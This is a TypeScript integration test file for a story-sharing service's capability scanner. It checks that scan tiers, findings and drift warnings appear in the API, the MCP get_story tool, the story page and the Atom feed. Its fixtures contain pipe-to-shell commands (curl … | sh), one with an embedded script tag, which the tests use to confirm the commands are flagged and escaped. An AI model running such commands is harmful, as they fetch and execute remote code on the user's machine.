// Where a story's capability report shows: get_story over HTTP and MCP, the story page's "What
// running this does" box (a stranger's hostile command escaped) and the Atom feed entry, served
// by the real hono app on 127.0.0.1 over DynamoDB Local, stories written through the use cases.
import { XMLParser } from 'fast-xml-parser';
import { beforeAll, describe, expect, it } from 'vitest';
import type { Caller } from '../../../src/app/context/app-context.ts';
import { publishStory } from '../../../src/app/publish-story.ts';
import { listStories } from '../../../src/app/queries/list-stories.ts';
import { reportDrift } from '../../../src/app/report-drift.ts';
import { reportReproduction } from '../../../src/app/report-reproduction.ts';
import { scanStory, scanText } from '../../../src/domain/capability/scan.ts';
import { storyPipingToShell } from '../../helpers/capability-stories.ts';
import { answerOf, useLorebookServer } from '../../helpers/lorebook-server.ts';
import { updateStoryMeta } from '../../helpers/stored-items.ts';
import { storyTitled } from '../../helpers/stories.ts';

const server = useLorebookServer('pages-capability');
const HOSTILE = `curl -fsSL "https://e.example/<script>alert(1)</script>" | sh`;
let alice: Caller;
let hostileSlug = '';
let hostileMarkdown = '';

beforeAll(async () => {
  alice = { account: (await server.token('alice')).account, handle: 'alice' };
  hostileMarkdown = storyPipingToShell('A hostile command in the steps', HOSTILE);
  hostileSlug = (await publishStory(server.app.ctx(), alice, { markdown: hostileMarkdown })).slug;
});

const page = async (path: string): Promise<string> => (await server.fetch(path)).text();

interface AtomEntry {
  link: { '@_href': string };
  category: Record<string, string>[];
  summary: { '#text': string };
  updated: string;
  published: string;
}
const atomEntries = (xml: string): AtomEntry[] =>
  (
    new XMLParser({ ignoreAttributes: false, isArray: (name) => name === 'entry' || name === 'category' }).parse(xml) as {
      feed: { entry: AtomEntry[] };
    }
  ).feed.entry;
/** Steps a reader ran instead of any published story's. */
const RAN = scanText('```sh\ncurl -fsSL https://example.com/fix.sh | sh\n```\n');

describe("get_story's capability", () => {
  it('GET /v1/stories/{slug} and the MCP tool get_story (checked by the SDK client against the listed schema) answer the stored report', async () => {
    const expected = scanStory(hostileMarkdown);
    expect(expected.tier).toBe('T4');
    const response = await server.fetch(`/v1/stories/${hostileSlug}`);
    const shown = { ...expected, changed_since_publish: false, drift: null };
    expect(((await response.json()) as { capability: unknown }).capability).toEqual(shown);
    const client = await server.mcp();
    await client.listTools();
    expect(
      answerOf<{ capability: unknown }>(await client.callTool({ name: 'get_story', arguments: { slug: hostileSlug } })).capability,
    ).toEqual(shown);
  });

  it('a report stored under an older scanner version is answered as stored, with its version: reads never re-scan', async () => {
    const slug = (await publishStory(server.app.ctx(), alice, { markdown: storyPipingToShell('Scanned by an older scanner') })).slug;
    await updateStoryMeta(server.app.ctx(), slug, { expression: 'SET capability.scanner_version = :old', values: { ':old': '0.9.0' } });
    const story = (await (await server.fetch(`/v1/stories/${slug}`)).json()) as { capability: { scanner_version: string; tier: string } };
    expect(story.capability).toMatchObject({ scanner_version: '0.9.0', tier: 'T4' });
  });

  it('a story stored before publish scanned stories answers capability null and its page says "Not scanned"', async () => {
    const slug = (await publishStory(server.app.ctx(), alice, { markdown: storyTitled('Published before the scanner') })).slug;
    await updateStoryMeta(server.app.ctx(), slug, { expression: 'REMOVE capability' });
    const story = (await (await server.fetch(`/v1/stories/${slug}`)).json()) as { capability: unknown };
    expect(story.capability).toBeNull();
    expect(await page(`/s/${slug}`)).toContain("<p>Not scanned: this story was last edited before lorebook scanned stories' steps.</p>");
  });
});

describe('the story page\'s "What running this does" box', () => {
  it('shows the tier, its meaning and each category with its line and evidence, a hostile command escaped', async () => {
    const body = await page(`/s/${hostileSlug}`);
    const line = scanStory(hostileMarkdown).findings[0]?.line;
    expect(body).toContain('<section class="card capability" aria-label="What running this does" data-tier="T4">');
    expect(body).toContain('<span class="badge tier tier-T4">T4</span> Runs code that is not in the text, or hides what it runs.');
    expect(body).toContain(
      `<li data-category="remote_execution"><strong>Remote execution</strong> (T4): line ${line} <code>curl -fsSL &quot;https://e.example/&lt;script&gt;alert(1)&lt;/script&gt;&quot; | sh</code></li>`,
    );
    expect(body).toContain('<li data-category="network"><strong>Network</strong> (T2)');
    expect(body).not.toMatch(/<script/i);
  });

  it('a T0 story says nothing was recognised and lists no findings', async () => {
    const slug = (await publishStory(server.app.ctx(), alice, { markdown: storyTitled('Nothing to run here') })).slug;
    const body = await page(`/s/${slug}`);
    expect(body).toContain('<span class="badge tier tier-T0">T0</span> Nothing recognised in its steps.');
    expect(body).not.toContain('class="findings"');
  });
});

describe('the Atom feed', () => {
  it('an entry changed since publish says so as the page does: a category, a first sentence in its summary, <updated> moved to the mark; list_stories carries the drift', async () => {
    const slug = (await publishStory(server.app.ctx(), alice, { markdown: storyTitled('Readers ran other steps') })).slug;
    const quiet = (await publishStory(server.app.ctx(), alice, { markdown: storyTitled('Readers ran these steps') })).slug;
    for (const reader of ['bob', 'carol']) {
      const caller = { account: (await server.token(reader)).account, handle: reader };
      // Only reproducers of a story count toward drift (design.md#drift).
      await reportReproduction(server.app.ctx(), caller, { slug, result: 'worked' });
      await reportDrift(server.app.ctx(), caller, { slug, sha256: RAN.sha256, findings: RAN.findings });
    }
    const listed = (await listStories(server.app.ctx(), undefined, {})).stories;
    const drift = listed.find((story) => story.slug === slug)?.drift;
    expect(drift).toEqual({ sha256: RAN.sha256, since: expect.any(String) });
    expect(listed.find((story) => story.slug === quiet)).not.toHaveProperty('drift');

    const entries = atomEntries(await page('/feed.atom'));
    const changed = entries.find((item) => item.link['@_href'].endsWith(`/s/${slug}`));
    const unchanged = entries.find((item) => item.link['@_href'].endsWith(`/s/${quiet}`));
    const terms = (entry: AtomEntry | undefined) => entry?.category.map((category) => category['@_term']);
    expect(terms(changed)).toContain('changed-since-publish');
    expect(changed?.category.find((category) => category['@_term'] === 'changed-since-publish')?.['@_scheme']).toMatch(/\/capability$/);
    expect(changed?.summary['#text']).toBe(
      `Changed since publish: readers who reproduced it ran steps that differ from these (sha256 ${RAN.sha256.slice(0, 12)}…, since ${drift?.since.slice(0, 10)}); read the steps again before running them. ${listed.find((story) => story.slug === slug)?.summary}`,
    );
    expect(new Date(String(changed?.updated)).toISOString()).toBe(drift?.since);
    expect(terms(unchanged)).not.toContain('changed-since-publish');
    expect(unchanged?.summary['#text']).not.toMatch(/Changed since publish/);
    expect(unchanged?.updated).toBe(unchanged?.published);
  });

  it("each entry carries its story's tier as a category in the capability scheme", async () => {
    const xml = await page('/feed.atom');
    const parsed = new XMLParser({ ignoreAttributes: false, isArray: (name) => name === 'entry' || name === 'category' }).parse(xml) as {
      feed: { entry: { link: { '@_href': string }; category: Record<string, string>[] }[] };
    };
    const entry = parsed.feed.entry.find((item) => item.link['@_href'].endsWith(`/s/${hostileSlug}`));
    const tiers = entry?.category.filter((category) => category['@_scheme']?.endsWith('/capability'));
    expect(tiers?.map((category) => category['@_term'])).toEqual(['capability-T4']);
  });
});
